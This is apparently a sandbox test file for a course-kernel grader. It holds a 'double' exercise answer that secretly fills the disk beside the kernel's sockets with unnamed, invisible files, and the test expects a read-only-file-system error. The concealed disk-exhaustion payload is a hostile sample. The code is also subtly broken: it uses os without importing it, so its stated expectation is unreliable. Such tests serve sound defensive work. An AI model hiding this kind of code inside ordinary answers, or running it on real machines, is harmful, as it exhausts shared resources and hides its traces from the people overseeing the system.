# Fills the machine's disk beside the kernel's sockets, the one place outside that can be written to, with files that
# have no names, so that whoever looks into the folder sees nothing.

# %% ex-00-1-double
# expect: 0 error "Read-only file system"
import glob
import time


def double(values):
    (sockets,) = glob.glob("/tmp/*/sockets") + glob.glob("/tmp/**/course-kernel-*/sockets")
    held, block = [], bytes(2**24)
    for _ in range(5):
        try:
            file = os.open(sockets, os.O_TMPFILE | os.O_RDWR)
        except OSError:
            file = os.open(f"{sockets}/x", os.O_CREAT | os.O_RDWR)
            os.unlink(f"{sockets}/x")
        held.append(file)
        for _ in range(6):
            os.write(file, block)
    time.sleep(1)
    return values + values
